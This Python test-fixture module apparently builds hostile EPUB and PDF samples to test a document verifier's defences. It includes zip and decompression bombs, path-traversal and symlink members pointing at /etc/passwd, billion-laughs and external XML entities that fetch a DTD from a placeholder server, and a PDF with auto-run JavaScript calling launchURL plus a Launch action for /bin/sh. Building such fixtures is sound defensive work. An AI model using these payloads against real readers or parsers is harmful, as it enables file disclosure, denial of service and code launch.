"""Finished files that are none: bombs, names that reach outside, broken and circular structures.

Written by hand, each small.
"""

import functools
import io
import stat
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.test_hostile import pictures
from tests.test_verify.foreign import BODY, CONTAINER, METADATA, PROPERTIES, RDF, epub, pdf, zipped

ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + level)} "{f"&{chr(97 + level)};" * 10}">' for level in range(9))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "{file}"><!ENTITY % p SYSTEM "{server}/x.dtd"> %p;]>'
LINKED = '<link rel="record" href="r.jsonld" media-type="application/ld+json"/>'
_SYMLINK = (stat.S_IFLNK | 0o777) << 16


def replaced(**files: bytes) -> bytes:
    """The small EPUB with other bytes in some of its files ("p_xhtml", "book_opf")."""
    with zipfile.ZipFile(io.BytesIO(epub())) as container:
        there = {name: container.read(name) for name in container.namelist()}
    return zipped(there | {name.replace("_", "."): data for name, data in files.items()})


def with_prolog(prolog: str, title: str) -> bytes:
    """The small EPUB whose package and page begin with these declarations, and say this title."""
    with zipfile.ZipFile(
        io.BytesIO(
            epub(metadata=METADATA.replace("A short book", title), body=f"<p>{title}</p>{BODY}")
        )
    ) as container:
        files = {name: container.read(name) for name in container.namelist()}
    return zipped(files | {name: prolog.encode() + files[name] for name in ("book.opf", "p.xhtml")})


def many_words() -> bytes:
    """A page of seventy megabytes of small elements, packed no better than a text is."""
    unlike = " ".join(f"<b>{number * 2654435761 % 2**32:x}</b>" for number in range(50_000))
    return epub(body=BODY + f"<p>{unlike}</p>" * 70)


def duplicates() -> bytes:
    """Two pages of one name, and the first is another."""
    out = io.BytesIO(epub())
    with zipfile.ZipFile(out, "a") as container:
        container.writestr(
            "q.xhtml",
            "<html"
            " xmlns='http://www.w3.org/1999/xhtml'><head><title>x</title></head><body><p>Another"
            " page.</p></body></html>",
        )
    return out.getvalue().replace(b"q.xhtml", b"p.xhtml")


def symlinks() -> bytes:
    """A page that is a link to a file of the machine."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as container, zipfile.ZipFile(io.BytesIO(epub())) as given:
        for name in given.namelist():
            info = zipfile.ZipInfo(name)
            if name == "p.xhtml":
                info.external_attr, info.create_system = _SYMLINK, 3
            container.writestr(info, given.read(name) if name != "p.xhtml" else b"/etc/passwd")
    return out.getvalue()


def lying() -> bytes:
    """A member whose head says a hundred bytes, and which holds a hundred megabytes."""
    made = bytearray(epub(more={"z.css": b"ab" * 50_000_000}))
    size = (100_000_000).to_bytes(4, "little")
    while (place := made.find(size)) >= 0:
        made[place : place + 4] = (100).to_bytes(4, "little")
    return bytes(made)


def nested() -> bytes:
    """An EPUB in an EPUB, five deep."""
    inner = epub()
    for _ in range(5):
        inner = epub(more={"inner.epub": inner})
    return inner


def drawn(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    """The small PDF after a change, its streams packed as they are."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as file:
        change(file)
        file.save(
            out, fix_metadata_version=False, stream_decode_level=pikepdf.StreamDecodeLevel.none
        )
    return out.getvalue()


def looping_pages(file: pikepdf.Pdf) -> None:
    file.Root.Pages.Kids.append(file.Root.Pages)


def looping_outline(file: pikepdf.Pdf) -> None:
    one = file.make_indirect(Dictionary(Title=pikepdf.String("round")))
    one.Next = one.First = one.Last = one
    file.Root.Outlines = file.make_indirect(Dictionary(Type=Name.Outlines, First=one, Last=one))


def looping_structure(file: pikepdf.Pdf) -> None:
    one = file.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Sect))
    one.K = Array([one, file.Root.StructTreeRoot])
    file.Root.StructTreeRoot.K = Array([one])


def looping_forms(file: pikepdf.Pdf) -> None:
    form = file.make_stream(
        b"/X Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9])
    )
    form.Resources = Dictionary(XObject=Dictionary(X=form))
    file.pages[0].Resources.XObject = Dictionary(X=form)
    file.pages[0].Contents = file.make_stream(b"/X Do " * 1000)


def looping_names(file: pikepdf.Pdf) -> None:
    one = file.make_indirect(Dictionary())
    one.Kids = Array([one, one])
    file.Root.Names = Dictionary(EmbeddedFiles=one, Dests=one)


@functools.cache
def a_gigabyte() -> bytes:
    packed = zlib.compressobj()
    return b"".join(packed.compress(b"q Q " * 2**18) for _ in range(1024)) + packed.flush()


def a_gigabyte_unpacked(file: pikepdf.Pdf) -> None:
    stream = pikepdf.Stream(file, b"")
    stream.write(a_gigabyte(), filter=Name.FlateDecode)
    file.Root.Metadata = file.make_indirect(stream)
    # a packet would be written unpacked
    file.Root.Metadata.Type, file.Root.Metadata.Subtype = Name("/Metadatx"), Name.XML


def unpacked_page(file: pikepdf.Pdf) -> None:
    a_gigabyte_unpacked(file)
    file.pages[0].Contents = file.Root.Metadata
    del file.Root.Metadata


def unpacked_attachment(file: pikepdf.Pdf) -> None:
    a_gigabyte_unpacked(file)
    bomb = file.Root.Metadata
    bomb.Type, bomb.Subtype = Name.EmbeddedFile, Name("/application/ld+json")
    name = pikepdf.String("record.jsonld")
    spec = file.make_indirect(
        Dictionary(
            Type=Name.Filespec,
            F=name,
            UF=name,
            EF=Dictionary(F=bomb, UF=bomb),
            AFRelationship=Name.Supplement,
        )
    )
    del file.Root.Metadata
    file.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([name, spec])))
    file.Root.AF = Array([spec])


def packed_twice(file: pikepdf.Pdf) -> None:
    a_gigabyte_unpacked(file)
    bomb = file.Root.Metadata
    twice = pikepdf.Stream(file, b"")
    twice.write(
        zlib.compress(bomb.read_raw_bytes()), filter=Array([Name.FlateDecode, Name.FlateDecode])
    )
    file.pages[0].Contents = file.make_indirect(twice)
    del file.Root.Metadata


def a_million_words(file: pikepdf.Pdf) -> None:
    file.pages[0].Contents = file.make_stream(
        b"BT /F1 9 Tf 20 500 Td " + b"(x)Tj " * 1_000_000 + b"ET"
    )


def huge_pages(file: pikepdf.Pdf) -> None:
    file.pages[0].MediaBox = Array([0, 0, 10**7, 10**7])


def huge_picture(file: pikepdf.Pdf) -> None:
    image = pikepdf.Stream(
        file,
        b"\0",
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=60_000,
        Height=60_000,
        BitsPerComponent=8,
        ColorSpace=Name.DeviceRGB,
    )
    file.pages[0].Resources.XObject = Dictionary(I=file.make_indirect(image))
    file.pages[0].Contents = Array(
        [file.pages[0].Contents, file.make_stream(b"q 300 0 0 300 0 0 cm /I Do Q")]
    )


def running(file: pikepdf.Pdf) -> None:
    file.Root.OpenAction = Dictionary(
        S=Name.JavaScript, JS=pikepdf.String("app.launchURL('{server}/js')")
    )
    file.Root.AA = Dictionary(WC=Dictionary(S=Name.Launch, F=pikepdf.String("/bin/sh")))
    file.Root.AcroForm = Dictionary(XFA=file.make_stream(b"<x/>"), Fields=Array())


def locked() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as file:
        file.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    return out.getvalue()


FILES: dict[str, Callable[[], bytes]] = {
    "a zip bomb.epub": lambda: epub(more={"zeros.xhtml": bytes(300 * 2**20)}),
    "many bombs.epub": lambda: epub(
        more={f"z{number}.css": b"a" * 200_000 + bytes(900_000) for number in range(40)}
    ),
    "a bomb in a page.epub": lambda: replaced(
        p_xhtml=b"<html xmlns='http://www.w3.org/1999/xhtml'><body>" + b"<i/>" * 50_000_000
    ),
    "a page of small things.epub": many_words,
    "a page of many tags.epub": lambda: epub(
        body=BODY + "".join(f"<b>{number:x}</b>" for number in range(600_000))
    ),
    "a member that lies.epub": lying,
    "an archive in an archive.epub": nested,
    "a path outside.epub": lambda: epub(more={"../../outside.xhtml": b"x"}),
    "an absolute path.epub": lambda: epub(more={"/etc/passwd": b"x"}),
    "backslashes.epub": lambda: epub(more={"..\\..\\outside.xhtml": b"x"}),
    "a drive.epub": lambda: epub(more={"C:/outside.xhtml": b"x"}),
    "a link to a file.epub": symlinks,
    "two of one name.epub": duplicates,
    "control characters in names.epub": lambda: epub(more={"a\nb\x1b[31m.xhtml": b"x"}),
    "a spine that leads outside.epub": lambda: zipped(
        {
            "META-INF/container.xml": (
                b"<container><rootfiles><rootfile"
                b' full-path="../../../etc/passwd"/></rootfiles></container>'
            )
        }
    ),
    "a page outside.epub": lambda: replaced(
        book_opf=(
            b'<package xmlns="http://www.idpf.org/2007/opf"'
            b' version="3.0"><metadata/><manifest><item id="p" href="../../../../etc/passwd"'
            b' media-type="application/xhtml+xml"/></manifest><spine><itemref'
            b' idref="p"/></spine></package>'
        )
    ),
    "entities.epub": lambda: with_prolog(ENTITIES, "&j;"),
    "an outside entity.epub": lambda: with_prolog(OUTSIDE, "&e;"),
    "a container of entities.epub": lambda: zipped(
        {"META-INF/container.xml": (OUTSIDE + CONTAINER).encode(), "book.opf": b"<package/>"}
    ),
    "deep nesting.epub": lambda: epub(body=BODY + "<div>" * 10_000 + "deep" + "</div>" * 10_000),
    "a deep package.epub": lambda: epub(metadata=METADATA + "<meta>" * 10_000 + "</meta>" * 10_000),
    "a deep record.epub": lambda: epub(
        metadata=METADATA + LINKED, more={"r.jsonld": b"[" * 100_000}
    ),
    "a record of one number.epub": lambda: epub(
        metadata=METADATA + LINKED, more={"r.jsonld": b'{"@graph": [' + b"9" * 100_000 + b"]}"}
    ),
    "a record of megabytes.epub": lambda: epub(
        metadata=METADATA + LINKED,
        more={
            "r.jsonld": (
                b'{"@graph": ['
                + b",".join(b"{}," * 60 + b"%d" % number for number in range(100_000))
                + b"]}"
            )
        },
    ),
    "a record outside.epub": lambda: epub(
        metadata=METADATA + LINKED.replace("r.jsonld", "../../../../etc/passwd")
    ),
    "a sheet that imports itself.epub": lambda: epub(
        css="@import 'p.css';", more={"p.css": b"@import 'p.css'; @import url({server}/x.css);"}
    ),
    "a sheet of selectors.epub": lambda: epub(
        css=":is(" * 3000
        + "p"
        + ")" * 3000
        + "{display:none}"
        + "*>*~*+* *:not(a):nth-child(3n+1){color:white}"
    ),
    "a gigapixel picture.epub": lambda: epub(
        body=BODY + '<p><img src="g.png" alt="g"/></p>', more={"g.png": pictures.png()}
    ),
    "a cut archive.epub": lambda: epub()[:600],
    "an encrypted member.epub": (
        lambda: (
            epub()
            .replace(b"PK\x03\x04\x14\0\0", b"PK\x03\x04\x14\0\x01")
            .replace(b"PK\x01\x02\x14\x03\x14\0\0", b"PK\x01\x02\x14\x03\x14\0\x01")
        )
    ),
    "only a head.epub": lambda: b"PK\x03\x04",
    "a text.epub": lambda: b"words\n",
    "nothing.epub": lambda: b"",
    "a broken xref.pdf": (
        lambda: pdf().replace(b"startxref", b"startxxxx").replace(b"xref", b"xxxx")
    ),
    "a cut file.pdf": lambda: pdf()[:700],
    "entities in the packet.pdf": lambda: pdf(
        rdf=ENTITIES.replace("{", "{{").replace("}", "}}") + RDF,
        properties=PROPERTIES.replace("A short book", "&j;"),
    ),
    "an entity outside in the packet.pdf": lambda: pdf(
        rdf='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + RDF,
        properties=PROPERTIES.replace("A short book", "&e;"),
    ),
    "a packet of nothing.pdf": lambda: pdf(rdf="{}", properties="<<<<"),
    "looping pages.pdf": lambda: drawn(looping_pages),
    "a looping outline.pdf": lambda: drawn(looping_outline),
    "a looping structure.pdf": lambda: drawn(looping_structure),
    "looping forms.pdf": lambda: drawn(looping_forms),
    "looping names.pdf": lambda: drawn(looping_names),
    "a gigabyte of packet.pdf": (
        lambda: drawn(a_gigabyte_unpacked).replace(b"/Metadatx", b"/Metadata")
    ),
    "a gigabyte of page.pdf": lambda: drawn(unpacked_page),
    "a gigabyte of record.pdf": lambda: drawn(unpacked_attachment),
    "packed twice.pdf": lambda: drawn(packed_twice),
    "a page of a million words.pdf": lambda: drawn(a_million_words),
    "a page of a kilometre.pdf": lambda: drawn(huge_pages),
    "a picture of a gigapixel.pdf": lambda: drawn(huge_picture),
    "a file that runs.pdf": lambda: drawn(running),
    "a locked file.pdf": locked,
    "only a head.pdf": lambda: b"%PDF-1.7\n",
    "nothing.pdf": lambda: b"",
}
